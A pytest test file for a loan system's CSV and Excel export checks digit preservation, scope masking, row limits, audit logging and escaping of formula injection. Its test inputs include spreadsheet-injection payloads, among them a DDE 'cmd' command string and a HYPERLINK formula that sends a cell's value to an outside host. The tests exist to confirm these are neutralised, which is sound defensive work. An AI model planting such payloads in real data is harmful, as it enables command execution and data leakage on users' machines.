"""A list as a file: numbers keep their digits, nothing in it runs, scope and masks hold, and it leaves a trace."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from postloan.core.models import Event
from postloan.loans.models import Loan
from postloan.reporting import exports, limits
from postloan.reporting.columns import CUSTOMERS, LOANS, Column
from tests.factories import LoanFactory, LoanStateFactory, ParameterFactory, StaffFactory

PAYLOADS = ('=HYPERLINK("http://e/"&A1)', "+1+cmd|'/c calc'!A1", "-2+3", "@SUM(1+1)", "\t=1+1")
ACCOUNT = "0062284800123456789"


def sheet_of(answer) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(b"".join(answer.streaming_content)))
    return list(book.active.iter_rows())


def lines_of(answer) -> list[list[str]]:
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def export(client, of: str, kind: str, query: str = "", **more):
    answer = client.post(f"/{of}/export", {"format": kind, "query": query, "everything": "on", **more})
    assert answer.status_code == 200
    assert "attachment" in answer.headers["Content-Disposition"]
    return answer


def place(of, key: str) -> int:
    return of.keys.index(key)


@pytest.fixture
def hostile(bank):
    """A loan whose customer's name and product are formulas, with an account number that begins with zeros."""
    loan = bank.current.loan
    Loan.objects.filter(pk=loan.pk).update(account_no=ACCOUNT, product_name=PAYLOADS[1])
    type(loan.customer).objects.filter(pk=loan.customer_id).update(name=PAYLOADS[0])
    return loan


def test_excel_keeps_every_digit_of_an_account_number_and_runs_no_formula(bank, reader, hostile):
    rows = sheet_of(export(reader(bank.head), "loans", "xlsx", f"q={hostile.loan_no}"))
    row = rows[1]

    assert row[place(LOANS, "account")].value == ACCOUNT
    assert row[place(LOANS, "account")].data_type == "s"
    assert row[place(LOANS, "loan")].value == hostile.loan_no
    assert row[place(LOANS, "customer")].value == PAYLOADS[0]
    assert row[place(LOANS, "customer")].quotePrefix
    assert row[place(LOANS, "balance")].value == float(bank.current.principal_balance)
    assert row[place(LOANS, "matures")].value.date() == bank.current.matures_on
    assert {cell.data_type for line in rows for cell in line} <= {"s", "n", "d"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_puts_an_apostrophe_before_what_begins_like_a_formula(bank, reader, hostile, payload):
    type(hostile.customer).objects.filter(pk=hostile.customer_id).update(name=payload)
    row = lines_of(export(reader(bank.head), "loans", "csv", f"q={hostile.loan_no}"))[1]

    assert row[place(LOANS, "customer")] == f"'{payload}"
    assert row[place(LOANS, "account")] == ACCOUNT
    assert row[place(LOANS, "balance")] == "1000.10"
    assert row[place(LOANS, "days")] == "0"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("of", ["loans", "customers"])
def test_a_file_has_the_rows_of_the_query_the_watermark_and_nobody_elses_rows(bank, reader, of, kind):
    answer = export(reader(bank.head), of, kind)
    rows = lines_of(answer) if kind == "csv" else [[cell.value for cell in row] for row in sheet_of(answer)]
    text = repr(rows)

    assert bank.head.name in text
    assert bank.head.staff_no in text
    assert bank.overdue.customer.name in text
    assert bank.elsewhere.customer.name not in text
    assert bank.elsewhere.loan.loan_no not in text
    for clear in (bank.overdue.customer.id_number, bank.overdue.customer.phone, bank.overdue.customer.address):
        assert clear not in text
    assert len(rows[0]) == len((LOANS if of == "loans" else CUSTOMERS).columns)


def test_a_filtered_list_is_taken_out_filtered_and_sorted_with_the_columns_shown(bank, reader):
    client = reader(bank.head)
    client.post("/loans/layout", {"columns": ["days"]})
    answer = client.post("/loans/export", {"format": "csv", "query": "band=overdue&sort=balance"})
    lines = lines_of(answer)

    assert lines[0] == ["Loan number", "Customer", "Balance", "Days overdue"]
    assert [line[2] for line in lines[1:3]] == ["30.03", "200.20"]
    assert len(lines) == 4


def test_a_party_beyond_the_scope_is_masked_in_the_file_as_on_the_page(bank, reader):
    loan = LoanFactory(customer=bank.elsewhere.customer, booking_branch=bank.here, booking_branch_code="X")
    LoanStateFactory(loan=loan)
    text = repr(lines_of(export(reader(bank.head), "loans", "csv")))

    assert loan.loan_no in text
    assert bank.elsewhere.customer.name not in text
    assert bank.elsewhere.customer.customer_no in text


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_beyond_the_banks_limit_the_file_ends_and_says_so(bank, reader, kind):
    for key in (limits.MOST_IN_CSV, limits.MOST_IN_EXCEL):
        ParameterFactory(key=key, value=2, valid_from=date(2020, 1, 1))
    answer = export(reader(bank.head), "loans", kind)
    rows = lines_of(answer) if kind == "csv" else [[cell.value for cell in row] for row in sheet_of(answer)]

    assert "the first 2" in repr(rows)
    assert sum(bool(row) and str(row[0]).startswith(bank.current.loan.loan_no[:3]) for row in rows) == 2


def test_an_export_leaves_a_trace_that_says_what_was_taken_out(bank, reader):
    export(reader(bank.head), "loans", "csv", "band=overdue&page=2")

    event = Event.objects.get(code="reporting.exported")
    assert event.actor == bank.head
    assert (event.arguments["rows"], event.arguments["query"]) == (2, "band=overdue")
    assert event.arguments["format"] == "csv"


def test_the_record_of_exports_is_for_those_who_watch(bank, reader):
    export(reader(bank.head), "customers", "xlsx")
    auditor = StaffFactory(branch=bank.root, post="audit_administrator")
    page = reader(auditor).get("/records/exports")

    assert bank.head.name in page.content.decode()
    assert reader(bank.head).get("/records/exports").status_code == 403


def test_an_unknown_format_is_no_file(bank, reader):
    answer = reader(bank.head).post("/loans/export", {"format": "pdf", "query": "band=overdue"})

    assert answer.headers["Location"] == "/loans?band=overdue"
    assert not Event.objects.filter(code="reporting.exported").exists()


def test_an_amount_too_long_for_a_spreadsheet_is_text_and_a_missing_one_is_empty():
    """By the columns themselves: SQLite keeps no sixteenth digit."""
    amounts = {"long": Decimal("12345678901234.56"), "short": Decimal("1234567890123.45"), "none": None}
    columns = [Column(name, name, lambda row, name=name: row[name]) for name in amounts]
    mark = exports.Mark("n", "1", "now", None)
    made = exports.excel_file("t", columns, [amounts], mark=mark, most=5)
    row = list(openpyxl.load_workbook(made).active.iter_rows())[1]

    assert [cell.value for cell in row] == ["12345678901234.56", 1234567890123.45, None]


def test_files_are_made_in_the_readers_language(bank, reader):
    assert lines_of(export(reader(bank.head, "zh-hans"), "loans", "csv"))[0][0] == "借据号"
    assert lines_of(export(reader(bank.head, "en"), "loans", "csv"))[0][0] == "Loan number"


def test_lines_come_as_they_are_asked_for():
    columns = LOANS.columns[:1]
    mark = exports.Mark("n", "1", "now", None)

    def rows():
        yield {"loan": type("L", (), {"loan_no": "1"})}
        raise AssertionError("asked for too early")

    made = exports.csv_lines(list(columns), rows(), mark=mark, most=5)
    assert next(made).startswith("\ufeff")
    assert next(made) == "1\r\n"
